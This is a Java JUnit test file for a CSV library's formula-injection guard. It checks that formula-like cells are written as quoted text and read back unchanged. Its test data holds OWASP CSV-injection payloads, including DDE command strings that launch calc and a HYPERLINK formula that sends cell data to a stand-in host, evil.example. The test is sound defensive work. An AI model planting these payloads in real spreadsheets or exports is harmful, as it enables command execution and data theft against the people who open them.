package dev.concord.csv;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** OWASP CSV injection: formula-like cells are written as quoted text with a leading quote, and read back. */
class FormulaGuardTest {
    @ParameterizedTest
    @ValueSource(strings = {
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for help\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd|' /C calc'!E2",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "\t=1+1",
            "\r=1+1",
            "'=already quoted",
            "''@twice"})
    void owaspPayloadsAreWrittenAsTextAndReadBackUnchanged(String payload) throws Exception {
        StringWriter out = new StringWriter();
        new CsvWriter(out).write(List.of("id", payload));
        String written = out.toString();
        assertThat(written).startsWith("id,\"'");
        List<String> back = CsvReader.lenient(new StringReader(written), "x.csv").next();
        assertThat(back.get(1)).startsWith("'");
        assertThat(FormulaGuard.restore(back.get(1))).isEqualTo(payload);
        assertThat(FormulaGuard.restore(CsvReader.strict(new StringReader(written), "x.csv").next().get(1)))
                .isEqualTo(payload);
    }

    @ParameterizedTest
    @ValueSource(strings = {"plain", "a = b", "1-2", "'quoted'", "'", "x@example.com", ""})
    void ordinaryTextIsLeftAlone(String text) {
        assertThat(FormulaGuard.neutralise(text)).isEqualTo(text);
        assertThat(FormulaGuard.restore(text)).isEqualTo(text);
    }

    @Test
    void aQuotedFormulaFromAnotherToolReadsAsTheFormulaText() {
        assertThat(FormulaGuard.restore("'=1+1")).isEqualTo("=1+1");
        assertThat(FormulaGuard.restore("'-5")).isEqualTo("-5");
    }
}
